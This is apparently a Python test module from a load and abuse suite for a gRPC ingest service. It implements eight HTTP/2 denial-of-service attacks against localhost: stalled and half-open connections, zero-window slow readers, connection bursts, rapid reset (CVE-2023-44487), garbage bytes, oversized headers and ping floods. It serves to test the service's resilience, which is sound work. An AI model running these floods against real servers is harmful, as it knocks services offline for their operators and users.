"""What bad clients do to ingest, each as a program of its own: `python -m tests.load.ingest.abuse.attacks NAME …`.

Speaks HTTP/2 by itself (the `h2` library), because a gRPC client would not let us misbehave. Knows nothing of the
service beyond its wire contract.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

import h2.config
import h2.connection
import h2.settings
from google.protobuf.timestamp_pb2 import Timestamp

from headwater.event.v1 import event_pb2
from headwater.ingest.v1 import ingest_pb2

RECORD: Final = "/headwater.ingest.v1.IngestService/RecordEvent"
STREAM: Final = "/headwater.ingest.v1.IngestService/StreamEvents"
CONNECT_S: Final = 2.0


@dataclass(frozen=True, slots=True)
class Target:
    """Whom to attack, how hard, for how long.

    Args:
        amount: connections; for a flood, attempts in all.
        seconds: an attack that only holds on holds on for so long; a flood ends when its amount is spent.
    """

    port: int
    amount: int
    seconds: float


class Peer:
    """One HTTP/2 connection that does as it is told."""

    def __init__(self, port: int, *, window: int | None = None) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), CONNECT_S)
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        if window is not None:
            self.http.local_settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
        self.http.initiate_connection()
        self.flush()

    def open(self, path: str, *extra: tuple[str, str]) -> int:
        """Begin a call and return its stream."""
        stream = self.http.get_next_available_stream_id()
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        self.http.send_headers(stream, [*headers, *extra])
        return stream

    def flush(self) -> None:
        """Send what was said."""
        self.socket.sendall(self.http.data_to_send())

    def listen(self) -> int:
        """Read what there is and answer as the protocol wants; return the bytes read, 0 at the end."""
        data = self.socket.recv(65_536)
        self.http.receive_data(data)
        self.flush()
        return len(data)


def stalled(target: Target) -> Iterator[None]:
    """Half a request on every connection, and then nothing; the connection itself is kept alive."""
    peers = [Peer(target.port) for _ in range(target.amount)]
    for peer in peers:
        stream = peer.open(RECORD)
        peer.http.send_data(stream, _framed(_request())[:40])
        peer.flush()
        peer.socket.settimeout(0.001)
    while True:
        for peer in peers:
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                peer.listen()
        yield


def half_open(target: Target) -> Iterator[None]:
    """Peers that vanished: a call is open, and nothing is ever read or answered again, pings included."""
    peers = [Peer(target.port) for _ in range(target.amount)]
    for peer in peers:
        peer.open(STREAM)
        peer.flush()
    while peers:
        time.sleep(0.05)
        yield


def slow_reader(target: Target) -> Iterator[None]:
    """Streams that send and send and let no acknowledgement in: their window stays shut."""
    peers = [Peer(target.port, window=0) for _ in range(target.amount)]
    streams = [peer.open(STREAM) for peer in peers]
    message = _framed(_batch(50))
    while True:
        for peer, stream in zip(peers, streams, strict=True):
            peer.socket.settimeout(0.001)
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                peer.listen()
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                room = min(peer.http.local_flow_control_window(stream), peer.http.max_outbound_frame_size)
                if room >= len(message):
                    peer.http.send_data(stream, message)
                    peer.flush()
        yield


def burst(target: Target) -> Iterator[None]:
    """Connection attempts as fast as they go, none of which ever says a word."""
    held: list[socket.socket] = []
    for _ in range(target.amount):
        attempt = socket.socket()
        attempt.setblocking(False)
        attempt.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # no TIME_WAIT
        code = attempt.connect_ex(("127.0.0.1", target.port))
        if code in {0, errno.EINPROGRESS}:
            held.append(attempt)
        else:
            attempt.close()
        if len(held) >= HELD_MAX:
            for one in held:
                one.close()
            held.clear()
            yield
    for one in held:
        one.close()


HELD_MAX: Final = 1_000
"""Connections that the burst holds at once: well within anyone's limit of descriptors."""


def rapid_reset(target: Target) -> Iterator[None]:
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""
    begun = 0
    while begun < target.amount:
        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
            peer = Peer(target.port)
            with contextlib.closing(peer.socket):
                while begun < target.amount:
                    for _ in range(50):
                        stream = peer.open(RECORD)
                        peer.http.reset_stream(stream)
                        begun += 1
                    peer.flush()
                    peer.socket.settimeout(0.0005)
                    with contextlib.suppress(TimeoutError):
                        if not peer.listen():
                            break
                    yield
        begun += 1
        yield


def garbage(target: Target) -> Iterator[None]:
    """Connections that speak no HTTP/2 at all."""
    chance = random.Random(1)
    for number in range(target.amount):
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", target.port), CONNECT_S) as one,
        ):
            preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" if number % 2 else b""
            one.sendall(preface + chance.randbytes(4_096))
        yield


def huge_metadata(target: Target) -> Iterator[None]:
    """Calls with a quarter of a megabyte of headers."""
    value = "x" * 8_000
    for _ in range(target.amount):
        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
            peer = Peer(target.port)
            with contextlib.closing(peer.socket):
                peer.open(RECORD, *((f"x-filler-{number}", value) for number in range(32)))
                peer.flush()
                peer.socket.settimeout(0.05)
                peer.listen()
        yield


def ping_flood(target: Target) -> Iterator[None]:
    """Pings and nothing else, until the server hangs up; then again on a new connection."""
    sent = 0
    while sent < target.amount:
        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
            peer = Peer(target.port)
            with contextlib.closing(peer.socket):
                peer.socket.settimeout(0.0005)
                while sent < target.amount:
                    for _ in range(10):
                        peer.http.ping(b"12345678")
                        sent += 1
                    peer.flush()
                    with contextlib.suppress(TimeoutError):
                        if not peer.listen():
                            break
                    yield
        sent += 1
        yield


ATTACKS: Final[dict[str, Callable[[Target], Iterator[None]]]] = {
    attack.__name__: attack
    for attack in (stalled, half_open, slow_reader, burst, rapid_reset, garbage, huge_metadata, ping_flood)
}


def _request() -> bytes:
    return ingest_pb2.RecordEventRequest(tenant_id="acme", event=_event(0)).SerializeToString()


def _batch(events: int) -> bytes:
    message = ingest_pb2.StreamEventsRequest(
        tenant_id="acme", batch_number=1, events=[_event(number) for number in range(events)]
    )
    return message.SerializeToString()


def _event(number: int) -> event_pb2.Event:
    return event_pb2.Event(
        source="webshop",
        object="contact",
        external_id=f"a-{number}",
        event_time=Timestamp(seconds=1_760_000_000 + number),
        payload=b'{"email":"a%d@example.com","name":"Some One"}' % number,
    )


def _framed(message: bytes) -> bytes:
    """Return *message* as gRPC puts it on the wire."""
    return struct.pack("!BI", 0, len(message)) + message


def main(arguments: list[str]) -> None:
    """Run one attack and say how many rounds it made."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("amount", type=int)
    parser.add_argument("seconds", type=float)
    given = parser.parse_args(arguments)
    end_s = time.monotonic() + given.seconds
    rounds = 0
    for _ in ATTACKS[given.name](Target(given.port, given.amount, given.seconds)):
        rounds += 1
        if time.monotonic() > end_s:
            break
    sys.stdout.write(f"{rounds}\n")


if __name__ == "__main__":
    main(sys.argv[1:])
